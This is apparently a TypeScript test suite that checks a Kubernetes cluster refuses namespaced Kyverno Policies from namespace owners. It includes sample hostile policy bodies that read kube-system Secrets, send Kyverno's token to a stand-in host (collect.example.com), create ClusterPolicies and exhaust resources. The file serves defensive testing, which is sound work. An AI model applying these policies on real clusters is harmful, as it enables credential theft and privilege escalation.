import type { KubeConfig } from "@kubernetes/client-node";
import { admitted, attacks, refused } from "./cases";
import { apps, ask, collection, create, production } from "./cluster";
import type { Body } from "./objects";

const byBackstop = /a Kyverno Policy of a namespace runs with Kyverno's own rights/;
const never = { any: [{ key: "a", operator: "Equals", value: "b" }] };
const configMaps = { any: [{ resources: { kinds: ["ConfigMap"] } }] };

const policy = (name: string, rule: object, spec: object = {}): Body => ({
  apiVersion: "kyverno.io/v1",
  kind: "Policy",
  metadata: { name },
  spec: {
    validationFailureAction: "Audit",
    background: false,
    rules: [{ name: "r", match: configMaps, ...rule }],
    ...spec,
  },
});
const looks = (context: object): object => ({
  context: [{ name: "found", ...context }],
  validate: { message: "x", deny: { conditions: never } },
});

/** What a namespace's admin could have Kyverno do, with Kyverno's own rights. */
const HARMFUL: Record<string, object> = {
  "reads Secrets of kube-system": looks({ apiCall: { urlPath: "/api/v1/namespaces/kube-system/secrets" } }),
  "sends Kyverno's token to a stranger": looks({
    apiCall: { method: "POST", service: { url: "https://collect.example.com/" } },
  }),
  "creates a ClusterPolicy": looks({
    apiCall: {
      urlPath: "/apis/kyverno.io/v1/clusterpolicies",
      method: "POST",
      data: [{ key: "kind", value: "ClusterPolicy" }],
    },
  }),
  "reads another namespace's ConfigMap": looks({ configMap: { name: "kyverno", namespace: "kyverno" } }),
  "has Kyverno ask a registry": looks({ imageRegistry: { reference: "registry.example.com/a:1" } }),
  "computes for ever": {
    validate: {
      message: "x",
      deny: { conditions: { any: [{ key: "{{ range(`0`, `99`) }}", operator: "Equals", value: 1 }] } },
    },
  },
  "has Kyverno asked about everything": {
    match: { any: [{ resources: { kinds: ["*"] } }] },
    validate: { message: "x", deny: { conditions: never } },
  },
  "looks harmless": { validate: { message: "x", pattern: { metadata: { name: "?*" } } } },
};

attacks("namespaced policies", (get) => {
  const write = (who: KubeConfig, namespace: string, body: Body, version = "v1") =>
    ask(who, "POST", collection(namespace, "Policy").replace("/v1/", `/${version}/`), {
      ...body,
      apiVersion: `kyverno.io/${version}`,
    });

  Object.entries(HARMFUL).forEach(([what, rule], index) => {
    refused(`Policy of a namespace owner that ${what}`, byBackstop, () =>
      write(get().owner, apps, policy(`own-${index}`, rule)),
    );
  });

  refused("Policy in the other served version", byBackstop, () =>
    write(get().owner, production, policy("own-v2", HARMFUL["looks harmless"]!), "v2beta1"),
  );
  refused("Policy in a namespace of the system", byBackstop, () =>
    write(get().admin, "kube-system", policy("own-system", HARMFUL["looks harmless"]!)),
  );
  refused("Policy by who is on call", byBackstop, async () => {
    const { admin, oncall } = get();
    await ask(admin, "POST", `/apis/rbac.authorization.k8s.io/v1/namespaces/${apps}/rolebindings`, {
      apiVersion: "rbac.authorization.k8s.io/v1",
      kind: "RoleBinding",
      metadata: { name: "oncall-admin" },
      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "admin" },
      subjects: [{ apiGroup: "rbac.authorization.k8s.io", kind: "Group", name: "platform-oncall" }],
    });
    return write(oncall, apps, policy("own-oncall", HARMFUL["looks harmless"]!));
  });

  admitted("other objects of a namespace owner", () =>
    create(get().owner, apps, {
      apiVersion: "apps/v1",
      kind: "ReplicaSet",
      metadata: { name: "empty" },
      spec: {
        replicas: 0,
        selector: { matchLabels: { app: "empty" } },
        template: {
          metadata: { labels: { app: "empty" } },
          spec: { containers: [{ name: "a", image: "quay.io/other/app:1" }] },
        },
      },
    }),
  );
});
